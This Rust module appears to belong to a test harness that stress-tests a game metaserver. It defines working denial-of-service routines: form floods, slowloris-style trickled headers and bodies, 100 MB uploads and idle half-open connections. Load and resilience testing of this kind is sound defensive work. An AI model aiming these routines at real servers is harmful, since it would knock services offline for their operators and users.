//! What is done to a metaserver.

use std::io;
use std::sync::Arc;
use std::time::Duration;

use tokio::task::JoinSet;
use tokio::time::{sleep, timeout_at};

use super::{Attack, Outcome, attack};
use crate::wire::Target;

pub(crate) fn all() -> Vec<Attack> {
    vec![
        attack!(
            "metaserver-flood",
            "forms for ever more games",
            Metaserver,
            flood
        ),
        attack!(
            "metaserver-slow",
            "32 connections from each of four addresses, a byte at a time",
            Metaserver,
            slow
        ),
        attack!(
            "metaserver-slow-bodies",
            "forms whose ends do not come",
            Metaserver,
            slow_bodies
        ),
        attack!("metaserver-large", "forms of 100 MB", Metaserver, large),
        attack!(
            "metaserver-half-open",
            "connections that say nothing",
            Metaserver,
            half_open
        ),
    ]
}

fn form(number: usize) -> Vec<u8> {
    let body = format!(
        "action=update&name=game{number}&ln=game{number}&tp=0.4&server=1&sertype=x&rule=r&rulever=1\
         &type0=tp&dns0=host{number}.example&ip0=10.0.0.1&port0=6923&key=key{number}&cmt={}",
        "x".repeat(3_000)
    );
    let length = body.len();
    format!(
        "POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n\
         Content-Length: {length}\r\nConnection: close\r\n\r\n{body}"
    )
    .into_bytes()
}

async fn flood(target: Arc<Target>) -> Outcome {
    let (mut sent, mut last) = (0, String::new());
    while !target.is_over() {
        let mut asking = JoinSet::new();
        for _ in 0..16 {
            sent += 1;
            let (target, number) = (Arc::clone(&target), sent);
            asking.spawn(async move {
                let mut wire = target.connect_from(number as u32 % 64).await?;
                wire.send(&form(number)).await?;
                io::Result::Ok(wire.text(200).await)
            });
        }
        for text in asking.join_all().await.into_iter().flatten() {
            last = text.lines().next().unwrap_or_default().to_owned();
        }
    }
    format!("{sent} sent; {last}").into()
}

/// Holds connections that say this, and then a byte now and then.
async fn held(target: &Arc<Target>, each: u32, first: Vec<u8>, then: &'static [u8]) -> Outcome {
    let mut holding = JoinSet::new();
    let first: Arc<[u8]> = first.into();
    for number in 0..4 * each {
        let (target, first) = (Arc::clone(target), Arc::clone(&first));
        holding.spawn(async move {
            let mut wire = target.connect_from(number % 4).await?;
            wire.send(&first).await?;
            for byte in then.iter().cycle() {
                wire.send(&[*byte]).await?;
                sleep(Duration::from_millis(100)).await;
            }
            wire.drain().await
        });
    }
    let mut cut = 0;
    while let Ok(Some(_)) = timeout_at(target.until, holding.join_next()).await {
        cut += 1;
    }
    format!("{cut} cut, {} left", holding.len()).into()
}

async fn slow(target: Arc<Target>) -> Outcome {
    held(&target, 32, b"GET / HTTP/1.1\r\n".to_vec(), b"X: y\r\n").await
}

async fn slow_bodies(target: Arc<Target>) -> Outcome {
    let mut first = form(1);
    first.truncate(first.len() - 2_000);
    held(&target, 64, first, b"x").await
}

async fn half_open(target: Arc<Target>) -> Outcome {
    held(&target, 200, Vec::new(), b"").await
}

async fn large(target: Arc<Target>) -> Outcome {
    let mut sending = JoinSet::new();
    for _ in 0..16 {
        let target = Arc::clone(&target);
        sending.spawn(async move {
            let head = b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 100000000\r\n\r\n";
            while !target.is_over() {
                let Ok(mut wire) = target.connect().await else {
                    sleep(Duration::from_millis(1)).await;
                    continue;
                };
                let _ = wire.stream.set_zero_linger();
                let _ = wire.send(head).await;
                let chunk = vec![b'x'; 65_536];
                while !target.is_over() && wire.send(&chunk).await.is_ok() {}
            }
        });
    }
    let _ = timeout_at(target.until, sending.join_all()).await;
    "cut off each time".into()
}
